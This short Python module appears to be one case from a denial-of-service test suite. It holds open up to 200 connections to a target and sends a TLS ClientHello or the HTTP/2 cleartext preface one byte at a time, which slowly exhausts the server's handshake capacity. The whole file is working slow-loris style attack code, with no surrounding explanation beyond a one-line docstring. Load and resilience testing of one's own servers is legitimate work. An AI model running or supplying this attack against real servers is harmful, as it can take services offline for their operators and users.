"""Handshakes of which one byte a second comes: of TLS, or of HTTP/2 without TLS."""

import time

from cases import SOURCE, going
from http2 import PREFACE, connect

SLICE = True
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)


def attack(target, until):
    begin = HELLO if target.tls else PREFACE
    held = []
    while going(until):
        while len(held) < 200:
            try:
                held.append([connect(target, SOURCE, handshake=False), 0])
            except OSError:
                break
        for each in list(held):
            try:
                each[0].sendall(begin[each[1]:each[1] + 1])
                each[1] += 1
            except OSError:
                held.remove(each)
        time.sleep(0.2)
    for each in held:
        each[0].close()
